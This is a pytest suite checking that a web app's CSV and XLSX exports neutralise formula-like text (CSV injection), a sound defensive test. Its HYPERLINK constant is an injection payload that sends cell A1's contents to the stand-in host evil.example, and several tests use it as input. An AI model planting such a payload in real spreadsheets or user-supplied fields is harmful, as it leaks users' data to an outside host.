"""Text that looks like a formula never runs in a spreadsheet opened from the site (OWASP "CSV
injection"): in every XLSX it is a text cell; in every CSV it starts with a single quote when it
begins with =, +, -, @, a tab or a carriage return. Open data and the admins' downloads share the
writer (``app.stats.export``); numbers stay numbers and JSON keeps the text as it is."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, time

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.accounts.models import Role
from app.core.time import from_local, local_today
from app.events.themed_days import load_themed_days
from app.extensions import db
from app.scheduling.models import Program
from app.venues.models import VenueStatus, VenueStatusChange
from tests import factories
from tests.test_opendata_downloads import csv_rows, json_rows

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
LAST_YEAR = local_today().year - 1


def themed_event(title_zh: str, **kw) -> Program:
    """A themed program of a new venue, titled ``title_zh``, held three days ago."""
    venue = factories.venue()
    event = factories.program(venue, themed_day_key="science_week", title_zh=title_zh, **kw)
    factories.slot(venue, days_ahead=-3, start=time(9), end=time(11), program_id=event.id)
    return event


def xlsx_cells(response) -> list:
    """Every cell of the first sheet, as openpyxl reads it back (its ``data_type`` included)."""
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def no_formula_in(response) -> bool:
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
        return not any(b"<f>" in book.read(name) or b"<f " in book.read(name)
                       for name in book.namelist() if name.startswith("xl/worksheets/"))


def test_a_program_a_manager_titles_as_a_formula_is_text_in_the_themed_events_xlsx(client, auth, app):
    load_themed_days()
    db.session.commit()
    manager = factories.user(Role.VENUE_MANAGER)
    auth.login(manager.email)
    form = {"kind": "themed_activity", "themed_day_key": "science_week", "title_zh": HYPERLINK, "title_en": "=1+1",
            "description_zh": "", "description_en": "", "grade_min": "3", "grade_max": "9", "curriculum_link": "",
            "language": "zh", "is_active": "y"}
    assert client.post("/manage/programs/new", data=form).status_code == 302
    program = db.session.scalar(select(Program))
    factories.slot(manager.venue, days_ahead=-3, program_id=program.id)
    auth.logout()

    response = client.get("/open-data/themed-events.xlsx")
    cells = {cell.value: cell.data_type for cell in xlsx_cells(response)}
    assert (cells[HYPERLINK], cells["=1+1"]) == ("s", "s")
    assert no_formula_in(response)


@pytest.mark.parametrize("title", ["=1+1", "#N/A", "#DIV/0!"])
def test_text_that_a_spreadsheet_would_read_as_a_formula_or_an_error_stays_text_in_xlsx(client, app, title):
    themed_event(title)
    cells = [cell for cell in xlsx_cells(client.get("/open-data/themed-events.xlsx")) if cell.value == title]
    assert [cell.data_type for cell in cells] == ["s"]


def test_numbers_and_dates_stay_numbers_and_dates_in_xlsx(client, app):
    themed_event("=1+1")
    cells = xlsx_cells(client.get("/open-data/themed-events.xlsx"))
    header = [cell.value for cell in cells[:14]]
    row = dict(zip(header, cells[14:28]))
    assert (row["sessions"].value, row["sessions"].data_type) == (1, "n")
    assert isinstance(row["first_date"].value, datetime) and row["first_date"].data_type == "d"


def test_a_title_with_a_control_character_still_downloads_as_xlsx(client, app):
    themed_event("科技周\x07实验秀")  # a bell: XML cannot carry it
    titles = [cell.value for cell in xlsx_cells(client.get("/open-data/themed-events.xlsx"))]
    assert "科技周实验秀" in titles


@pytest.mark.parametrize("title", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", HYPERLINK])
def test_a_text_starting_like_a_formula_gets_a_leading_quote_in_csv(client, app, title):
    themed_event(title)
    [row] = csv_rows(client, "themed-events")
    assert row["title_zh"] == "'" + title


def test_other_text_and_numbers_are_untouched_in_csv(client, app):
    event = themed_event("科技周 = 实验秀", title_en="Lab show - 2")
    [row] = csv_rows(client, "themed-events")
    assert (row["event_id"], row["title_zh"], row["title_en"]) == (str(event.id), "科技周 = 实验秀", "Lab show - 2")
    factories.venue(name_zh="-号馆", latitude=-32.05, longitude=-118.8)
    venue = next(r for r in csv_rows(client, "venues") if r["name_zh"].endswith("-号馆"))
    assert (venue["name_zh"], venue["latitude"], venue["longitude"]) == ("'-号馆", "-32.05", "-118.8")


def test_json_keeps_the_text_as_it_is(client, app):
    themed_event(HYPERLINK)
    [row] = json_rows(client, "themed-events")
    assert row["title_zh"] == HYPERLINK


def test_the_datapackage_says_how_csv_text_is_quoted(client, app):
    description = client.get("/open-data/datapackage.json").get_json()["description"]
    assert "single quote" in description and "单引号" in description


# --- the admins' downloads share the writer ----------------------------------------------------------

def venue_owing_last_years_report(**kw):
    venue = factories.venue(**kw)
    approved = from_local(datetime(LAST_YEAR, 3, 1, 10))
    venue.created_at = approved
    venue.status_changes = [VenueStatusChange(from_status=VenueStatus.SUBMITTED, to_status=VenueStatus.APPROVED,
                                              created_at=approved)]
    db.session.commit()
    return venue


def test_a_venue_named_as_a_formula_is_quoted_in_the_admins_reports_csv(client, auth, app):
    venue = venue_owing_last_years_report(name_zh="=1+1馆", name_en="@SUM(A1)")
    auth.login(factories.user(Role.CITY_ADMIN).email)
    response = client.get(f"/admin/reports.csv?year={LAST_YEAR}")
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert (row["venue_id"], row["venue"], row["venue_en"]) == (str(venue.id), "'=1+1馆", "'@SUM(A1)")


def test_a_report_remark_written_as_a_formula_is_text_in_the_report_xlsx(client, auth, app):
    venue = venue_owing_last_years_report()
    auth.login(factories.user(Role.VENUE_MANAGER, venue=venue).email)
    assert client.post(f"/manage/reports/{LAST_YEAR}/text", data={"text": HYPERLINK}).status_code == 302
    response = client.get(f"/manage/reports/{LAST_YEAR}.xlsx?lang=en")
    [remark] = [cell for cell in xlsx_cells(response) if cell.value == HYPERLINK]
    assert remark.data_type == "s"
    assert no_formula_in(response)
